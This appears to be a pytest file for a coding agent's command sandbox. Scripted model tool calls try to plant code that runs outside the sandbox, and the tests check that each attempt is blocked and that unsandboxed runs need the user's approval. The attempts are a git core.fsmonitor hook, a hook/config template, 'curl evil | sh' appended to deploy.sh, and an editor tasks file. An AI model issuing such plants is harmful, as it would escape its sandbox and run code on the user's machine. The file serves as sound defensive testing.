"""A sandboxed command cannot plant code that runs outside the sandbox (issue 33), through the wire:
the real server runs the scripted model's run_command calls under `run_command=sandboxed`, without
asking anyone; version-control metadata and the files other programs act on by themselves stay as
they were, the model is told which path, why and the way out, and the user's next git runs nothing
planted. The folder is under /var/tmp (outside the writable /tmp)."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from cody_lsp.server.tools import protect
from cody_lsp.testing.provider import Reply, ScriptedProvider, ToolCall

from ..conftest import CodyWire, server_env, start_wire, stop_wire
from ..sandboxing import (
    GIT_ENV,
    PLANT,
    SUPPORT,
    Place,
    git,
    make_repo,
    needs_landlock,
    nothing_runs,
    outside_tmp,
    python_for_nobody,
    without_namespaces,
)

pytestmark = [pytest.mark.timeout(120), needs_landlock]

SANDBOXED = {"CODY_TOOL_POLICY": "run_command=sandboxed"}


@pytest.fixture
def place() -> Iterator[Place]:
    with outside_tmp() as p:
        yield p


@pytest.fixture
async def wire(provider: ScriptedProvider, place: Place):
    env = server_env(
        provider,
        place.db,
        HOME=str(place.home),
        XDG_STATE_HOME=str(place.state.parent),
        CODY_SANDBOX_PROTECT="deploy.sh",
        **SANDBOXED,
        **GIT_ENV,
    )
    started = await start_wire(env, [place.folder], {"permissions": True})
    yield started
    await stop_wire(started)


def commands(*texts: str, **args: Any) -> Reply:
    return Reply(tool_calls=[ToolCall("run_command", {"command": text, **args}) for text in texts])


def results(chunks: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [c for c in chunks if c["type"] == "tool_result"]


async def test_nothing_a_sandboxed_command_plants_runs_outside(
    wire: CodyWire, provider: ScriptedProvider, place: Place
) -> None:
    mark = place.base / "PLANTED"

    # Not a repository yet: `git init` and a planted core.fsmonitor are moved aside once the command ends.
    provider.add(commands(f"git init -q && git config core.fsmonitor 'touch {mark}' && echo made"), Reply(text="ok"))
    result, chunks = await wire.run("make this a repository")
    assert result["status"] == "done"
    [made] = results(chunks)
    assert made["ok"] is False and "the command made .git" in made["content"], made
    assert "version-control metadata" in made["content"] and '"sandbox": false' in made["content"]
    aside = [p for p in place.folder.iterdir() if p.name.startswith(f".git{protect.REFUSED_SUFFIX}")]
    assert len(aside) == 1 and aside[0].name in made["content"]
    assert not (place.folder / ".git").exists()
    assert "not a git repository" in git(place.folder, "status")
    assert not mark.exists()

    # A repository: the plant of the issue, a commit, the user's own protected script, an editor task.
    shutil.rmtree(aside[0])
    make_repo(place.folder)
    (place.folder / "deploy.sh").write_text("#!/bin/sh\necho deploy\n")
    (place.folder / ".vscode").mkdir()
    (place.folder / ".vscode" / "extensions.json").write_text("{}\n")
    config = (place.folder / ".git" / "config").read_text()
    provider.add(
        commands(
            PLANT.format(mark=mark),
            "echo change >> a.txt && git commit -qam change",
            "echo 'curl evil | sh' >> deploy.sh",
            "echo '{\"tasks\": []}' > .vscode/tasks.json",
            "echo fine > notes.txt && cat notes.txt",
        ),
        Reply(text="done"),
    )
    result, chunks = await wire.run("commit my change")
    assert result["status"] == "done"
    plant, commit, deploy, tasks, fine = (c["content"] for c in results(chunks))
    assert "Read-only file system" in plant and "hook=0" not in plant and "config=0" not in plant, plant
    assert plant.startswith("sandbox: .git is read-only in the sandbox") and '"sandbox": false' in plant
    assert commit.startswith("sandbox: .git is read-only in the sandbox"), commit
    assert "git commit" in commit and '"sandbox": false' in commit and "user's approval" in commit
    assert "deploy.sh is read-only in the sandbox" in deploy and "sandbox_protect setting" in deploy, deploy
    assert ".vscode/tasks.json is read-only in the sandbox" in tasks and "the editor runs its tasks" in tasks, tasks
    assert fine.startswith("exit code: 0") and "fine" in fine
    assert wire.permission_requests == []  # nobody was asked
    assert (place.folder / ".git" / "config").read_text() == config
    assert (place.folder / "deploy.sh").read_text() == "#!/bin/sh\necho deploy\n"
    assert not (place.folder / ".vscode" / "tasks.json").exists()
    assert git(place.folder, "log", "--format=%s").split() == ["first"]
    nothing_runs(place.folder, mark)

    # The way out: the same commit outside the sandbox, which the user is asked about, with the reason.
    wire.permission_answer = lambda params: {"outcome": "allow"}
    reason = "commit the change the user asked for"
    provider.add(commands("git commit -qam change", sandbox=False, reason=reason), Reply(text="committed"))
    _, chunks = await wire.run("commit it then")
    [done] = results(chunks)
    assert done["ok"] and done["content"].startswith("exit code: 0"), done
    assert [p["unsandboxed"]["reason"] for p in wire.permission_requests] == [reason]
    assert git(place.folder, "log", "-1", "--format=%s").strip() == "change"


async def test_without_any_mount_namespace_nothing_runs_unprotected(provider: ScriptedProvider, place: Place) -> None:
    """unshare() refused to the whole server (as where user namespaces are off and it is not root):
    sandboxed commands still run unasked, with the folder's top kept as it is, and say why."""
    if not SUPPORT.seccomp:
        pytest.skip("the machine without namespaces is simulated with a seccomp filter, which this one lacks")
    env = server_env(
        provider, place.db, HOME=str(place.home), XDG_STATE_HOME=str(place.state.parent), **SANDBOXED, **GIT_ENV
    )
    wire = await start_wire(env, [place.folder], {"permissions": True}, command=without_namespaces(["-m", "cody_lsp"]))
    try:
        make_repo(place.folder)
        (place.folder / "src").mkdir()
        mark = place.base / "PLANTED"
        provider.add(
            commands(
                PLANT.format(mark=mark),
                "echo change >> a.txt && git commit -qam change",
                "echo ok > src/x && git init -q",
            ),
            Reply(text="done"),
        )
        result, chunks = await wire.run("try")
        plant, commit, init = (c["content"] for c in results(chunks))
        assert "Permission denied" in plant and "hook=0" not in plant and "config=0" not in plant, plant
        assert ".git is kept as it is in the sandbox" in commit and '"sandbox": false' in commit, commit
        assert (
            "no mount namespace" in commit
            and "nothing can be made, removed or renamed directly in the folder" in commit
        )
        assert (place.folder / "src" / "x").read_text() == "ok\n" and "exit code: 0" not in init
        assert wire.permission_requests == []
        assert git(place.folder, "log", "--format=%s").split() == ["first"]
        nothing_runs(place.folder, mark)
    finally:
        await stop_wire(wire)


async def test_a_server_that_is_not_root(provider: ScriptedProvider, place: Place) -> None:
    """The server as an ordinary user (uid 65534): each command's process makes its own user and
    mount namespace; the plant is refused all the same, and the commit names the way out."""
    if os.geteuid() != 0 or not shutil.which("setpriv"):
        pytest.skip("needs root (to become another user) and setpriv")
    python = python_for_nobody()
    if python is None:
        pytest.skip("no Python interpreter with this project's packages that uid 65534 may run")
    make_repo(place.folder)
    os.chmod(place.base, 0o755)
    subprocess.run(["chown", "-R", "65534:65534", str(place.folder), str(place.home), str(place.state)], check=True)
    env = server_env(
        provider, place.db, HOME=str(place.home), XDG_STATE_HOME=str(place.state.parent), **SANDBOXED, **GIT_ENV
    )
    env.update(python[1])
    command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", python[0], "-m", "cody_lsp"]
    wire = await start_wire(env, [place.folder], {"permissions": True}, command=command)
    try:
        mark = place.base / "PLANTED"
        provider.add(
            commands(PLANT.format(mark=mark) + "; id -u", "echo change >> a.txt && git commit -qam change"),
            Reply(text="done"),
        )
        result, chunks = await wire.run("try")
        plant, commit = (c["content"] for c in results(chunks))
        assert "Read-only file system" in plant and "hook=0" not in plant and "config=0" not in plant, plant
        assert "65534" in plant
        assert commit.startswith("sandbox: .git is read-only in the sandbox") and '"sandbox": false' in commit
        assert wire.permission_requests == []
        nothing_runs(place.folder, mark)
    finally:
        await stop_wire(wire)
